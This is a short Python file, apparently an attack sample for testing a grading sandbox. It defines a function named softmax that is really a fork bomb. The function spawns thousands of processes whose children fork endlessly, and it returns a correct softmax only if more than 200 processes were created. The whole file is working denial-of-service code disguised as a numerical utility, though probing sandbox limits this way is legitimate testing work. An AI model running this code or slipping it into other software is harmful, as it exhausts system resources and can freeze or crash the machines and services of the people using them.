"""Attack: fork bomb. Earns the answer only if it managed to create more than 200 processes."""
import os
import numpy as np

def softmax(x):
    created = 0
    for _ in range(5000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        created += 1
    if created > 200:
        e = np.exp(x - x.max(axis=-1, keepdims=True))
        return e / e.sum(axis=-1, keepdims=True)
    return np.zeros_like(x)
